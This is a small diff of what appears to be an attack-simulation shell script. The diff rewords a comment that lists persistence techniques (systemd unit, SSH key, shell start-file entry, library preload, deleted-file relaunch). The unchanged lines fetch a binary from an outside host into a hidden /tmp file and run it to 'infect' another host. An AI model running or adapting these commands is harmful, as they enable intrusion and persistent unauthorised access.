@@ -1,5 +1,5 @@
-# A dropped program connects out. Then a script makes a library part of every program, writes a systemd unit, an SSH key and
-# a line in the shell's start file, and starts the program again after deleting its file.
+# A dropped program connects out. Then a script writes a systemd unit, an SSH key and a line in the shell's start file,
+# starts the program again after deleting its file, and preloads a library into every program.
 curl -s -o /tmp/.agent http://203.0.113.10/simulator
 chmod +x /tmp/.agent
 /tmp/.agent infect 203.0.113.20:7000 /tmp/.agent.state 1
